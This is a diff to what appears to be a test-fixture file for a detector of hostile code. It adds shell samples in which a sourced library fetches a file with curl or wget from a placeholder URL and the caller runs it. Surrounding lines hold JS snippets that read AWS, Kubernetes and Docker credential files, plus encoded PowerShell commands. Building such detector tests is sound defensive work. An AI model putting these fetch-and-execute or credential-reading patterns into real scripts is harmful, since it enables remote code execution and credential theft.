@@ -165,6 +165,25 @@ _READS_JS = (
     "{EXPORT} function found() {\n  const file = process.env.KUBECONFIG ?? path.join(os.homedir(), '.kube', 'config');\n  return { raw: fs.readFileSync(file, 'utf8') };\n}\n",
     "const FOLDER = path.join(os.homedir(), '.aws');\n{EXPORT} function found() {\n  return fs.readFileSync(path.join(FOLDER, 'credentials'), 'utf8');\n}\n",
 )
+_SOURCED_SH = ('. "$(dirname "$0")/lib.sh"', 'source "$(cd "$(dirname "$0")" && pwd)/lib.sh"')
+_TAKEN_SH = (
+    ('take "$FROM" "$tmp/part"\n( cd "$tmp" && sh <part )', 'take() {\n  mkfifo "$2"\n  curl -fsS "$1" >"$2" &\n}'),
+    ('take "$FROM" "$tmp/part"\ncd "$tmp"\nbash part', 'take() { wget -qO "$2" "$1"; }'),
+    ('take "$FROM" /tmp/kit/part\npushd /tmp\ncd kit\n./part', 'take() { curl -sfLo "$2" "$1"; chmod +x "$2"; }'),
+)
+_READ_SH = (
+    'take "$FROM" "$tmp/part"\n( cd "$tmp" && sort <part )\nsh rest.sh',
+    'take "$FROM" "$tmp/part"\necho "$SUM  $tmp/part" | sha256sum -c -\n( cd "$tmp" && sh <part )',
+)
+
+
+def _sourced_sh(run: str, library: str, load: str) -> str:
+    return (
+        two("a.sh", "lib.sh", f"{load}\ntmp=$(mktemp -d)\n{run}", f'. "$here/conf/kit.env"\n{library}')
+        + "-- conf/kit.env --\nKIND=small\nFROM=https://in.flow.invalid/part\nSUM=ab12\n"
+    )
+
+
 _KEPT_JS = (
     "const kept = (...p) => {\n  try { return fs.readFileSync(path.join(os.homedir(), ...p), 'utf8') } catch { return '' }\n};",
     "function kept(folder, name) {\n  return fs.readFileSync(path.join(os.homedir(), folder, name), 'utf8');\n}",
@@ -556,6 +575,9 @@ BAD: dict[str, list[str]] = {
         f"`powershell -NoProfile -{option} {ENCODED}`\n" for option in ("e", "ec", "en", "enc", "EncodedCommand")
     ],
     "over two files": _ACROSS,
+    "a file that a library gets and its caller runs": [
+        _sourced_sh(run, library, load) for run, library in _TAKEN_SH for load in _SOURCED_SH
+    ],
     "a store whose path a function joins": [
         text for store in ("'.docker', 'config.json'", "'.aws', 'credentials'") for text in _kept_js(store)
     ],
@@ -659,6 +681,9 @@ GOOD: dict[str, list[str]] = {
         ),
     ],
     "a port that is asked whether it is open": [sh(text) for text in _PORTS],
+    "a file that a library gets and its caller reads, or has compared": [
+        _sourced_sh(run, _TAKEN_SH[1][1], load) for run in _READ_SH for load in _SOURCED_SH
+    ],
     "a file of its own whose path a function joins": [
         text for store in ("'.cache', 'kit.json'", "'.docker', 'daemon.json'") for text in _kept_js(store)
     ],
